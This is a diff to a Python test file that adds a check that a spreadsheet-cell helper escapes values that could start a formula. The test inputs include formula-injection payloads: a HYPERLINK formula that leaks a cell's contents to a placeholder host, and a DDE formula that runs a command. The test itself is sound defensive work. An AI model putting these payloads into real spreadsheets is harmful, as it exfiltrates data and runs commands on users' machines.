@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pb.domain.values import MAX_ID, parse_id, parse_whole
+from pb.domain.values import MAX_ID, parse_id, parse_whole, spreadsheet_cell
 
 
 @pytest.mark.parametrize(("typed", "number"), [
@@ -44,3 +44,11 @@ def test_any_text_gives_none_or_a_storable_number(typed: str) -> None:
     if number is not None:
         assert 0 <= number <= MAX_ID and int(typed.strip()) == number
         assert all(ch in "0123456789" for ch in typed.strip())
+
+
+def test_spreadsheet_cells_never_start_a_formula() -> None:
+    for text in ("=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
+                 "+1+1", "-2+3", "@SUM(A1)", "\tstarts with a tab", "\rstarts with a return"):
+        assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_cell("Bike racks") == "Bike racks"
+    assert spreadsheet_cell(-250) == -250 and spreadsheet_cell(None) == ""
